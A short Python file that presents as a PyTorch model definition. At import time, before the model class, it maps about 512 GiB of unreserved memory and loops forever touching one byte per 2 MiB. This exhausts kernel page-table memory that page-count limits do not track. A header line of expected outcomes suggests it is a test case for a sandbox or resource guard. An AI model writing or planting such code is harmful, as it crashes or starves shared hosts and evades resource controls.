# on: forbidden; off: out_of_memory
# Touches one address in each of many page tables, which the kernel keeps and no count of pages holds.
import mmap

import torch
from torch import nn

addresses = mmap.mmap(-1, 2**39, mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | 0x4000, mmap.PROT_READ)
while True:
    for place in range(0, len(addresses), 2**21):
        addresses[place]


class Net(nn.Module):
    def __init__(self, in_shape, out_shape, prm, device):
        super().__init__()
        self.f = nn.Sequential(nn.Flatten(), nn.Linear(in_shape[1] * in_shape[2] * in_shape[3], out_shape[0]))

    def forward(self, x):
        return self.f(x)
